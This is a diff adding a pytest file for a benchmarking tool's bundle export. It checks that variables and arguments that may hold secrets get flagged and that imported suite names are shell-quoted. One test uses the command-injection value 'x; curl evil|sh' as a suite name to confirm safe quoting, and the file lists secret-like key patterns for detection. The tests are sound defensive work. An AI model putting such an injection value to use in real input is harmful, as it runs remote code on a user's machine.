@@ -1,0 +1,114 @@
+"""Secrets are named before a bundle leaves, and names from elsewhere are shown as what they are."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from paceline.bundles import telling
+from paceline.bundles.reading import import_bundle
+from paceline.bundles.selecting import Choice
+from paceline.bundles.writing import export_bundle
+from paceline.errors import UserError
+from paceline.metrics import table_rows
+from paceline.report.render import text
+from paceline.store import Store
+from paceline.timing.command import ExternalCommand, Metric
+from paceline.timing.usage import CommandUsage
+from tests.made_bundles import ALL, FIRST, elsewhere, made_stores, of_machine, save
+from tests.made_machines import machine
+from tests.made_runs import CELL, OK, save_plan
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return made_stores(tmp_path_factory.mktemp("made"))
+
+
+@pytest.fixture
+def source(made: Path, tmp_path: Path) -> Store:
+    return Store(shutil.copytree(made / "source", tmp_path / "source"))
+
+
+@pytest.mark.parametrize("name", ["TF_TOKEN_x", "KERAS_AUTH", "TF_ACCESS_KEY_ID", "MXNET_PWD", "TF_VAR_x"])
+def test_variable_that_may_be_a_secret_stops_the_export(source: Store, tmp_path: Path, name: str) -> None:
+    secret = msgspec.structs.replace(of_machine("20250103-000001-eeeeee", "four", machine()), environment={name: "s"})
+    save(source, secret)
+    with pytest.raises(UserError, match=f"has kept the variable {name}, which may be a secret"):
+        export_bundle(source, ALL, tmp_path / "bundle.zip")
+    assert export_bundle(source, Choice(runs=[FIRST]), tmp_path / "bundle.zip").runs == 1
+
+
+def timed(store: Store, command: ExternalCommand) -> None:
+    """A run of `paceline time` that took a second."""
+    cell = msgspec.structs.replace(CELL, workload="command", framework="train.py", batch_size=0, command=command)
+    measured = of_machine("20250104-000001-ffffff", "timed", elsewhere(), cell)
+    save_plan(store, {cell: ["timed"]}, suite="time")
+    folder = store.create_run(measured)
+    (folder / "log.txt").write_text("Speed: 100\n")
+    sample = {"time": 1.0, "load": 0.0, "ranks": {}, "gpus": [], "cores": [[1.0, 0.0]] * 4}
+    (folder / "monitor.jsonl").write_text("".join(json.dumps({**sample, "time": at}) + "\n" for at in (1.0, 2.0)))
+    usage = CommandUsage(
+        seconds=1.0,
+        user_seconds=0.5,
+        system_seconds=0.1,
+        times_sampled=False,
+        largest_process_bytes=2**20,
+        left_behind=0,
+        found=((100.0,),) * len(command.metrics),
+    )
+    (folder / "usage.json").write_bytes(msgspec.json.encode(usage))
+    store.finish_run(folder, OK)
+
+
+def test_measured_command_moves_with_what_it_printed(tmp_path: Path) -> None:
+    source, target = Store(tmp_path / "source"), Store(tmp_path / "target")
+    speed = Metric(name="images/s", pattern="Speed: ([0-9]+)", take="median")
+    timed(source, ExternalCommand(arguments=("train.py", "--wandb-token=abc"), folder="/home/me", metrics=(speed,)))
+    assert export_bundle(source, Choice(), tmp_path / "bundle.zip").doubtful == ("--wandb-token",)
+    import_bundle(tmp_path / "bundle.zip", target)
+    assert text(table_rows(target, {}), 100) == text(table_rows(source, {}), 100)
+    assert target.query("SELECT value FROM reading")[0]["value"] == 100.0
+
+
+@pytest.mark.parametrize(
+    ("words", "doubtful"),
+    [
+        (("--api-key", "x"), "--api-key"),
+        (("--private-key=x",), "--private-key"),
+        (("--access_key", "x"), "--access_key"),
+        (("--auth", "x"), "--auth"),
+        (("--pwd", "x"), "--pwd"),
+        (("env", "API_KEY=x", "train"), "API_KEY"),
+        (("train", "logger.token=x"), "logger.token"),
+        (("sh", "-c", "cd there && train --api-key x"), "--api-key"),
+        (("train", "--data", "https://me:pass@host/data"), "a password in an address"),
+    ],
+)
+def test_argument_that_may_be_a_secret_is_named(tmp_path: Path, words: tuple[str, ...], doubtful: str) -> None:
+    store, path = Store(tmp_path / "store"), tmp_path / "bundle.zip"
+    timed(store, ExternalCommand(arguments=words, folder="/home/me"))
+    written = export_bundle(store, Choice(), path)
+    assert written.doubtful == (doubtful,)
+    assert f"A command in it has {doubtful}: whoever gets" in telling.written(written, path)
+
+
+def test_harmless_arguments_are_not_named(tmp_path: Path) -> None:
+    store = Store(tmp_path / "store")
+    words = ("train", "--keys=3", "key-token.txt", "https://host/a:b", "--monkey", "me@host:/data")
+    timed(store, ExternalCommand(arguments=words, folder="/home/me"))
+    assert export_bundle(store, Choice(), tmp_path / "bundle.zip").doubtful == ()
+
+
+def test_name_of_a_suite_is_no_command_of_its_own(tmp_path: Path) -> None:
+    """The line is there to be copied into a shell."""
+    source, path = Store(tmp_path / "source"), tmp_path / "bundle.zip"
+    save_plan(source, {CELL: ["one"]}, suite="x; curl evil|sh")
+    save(source, of_machine(FIRST, "one", elsewhere()))
+    export_bundle(source, ALL, path)
+    said = telling.taken(import_bundle(path, Store(tmp_path / "target")), path)
+    assert said.splitlines()[-1] == "paceline show --suite 'x; curl evil|sh'"
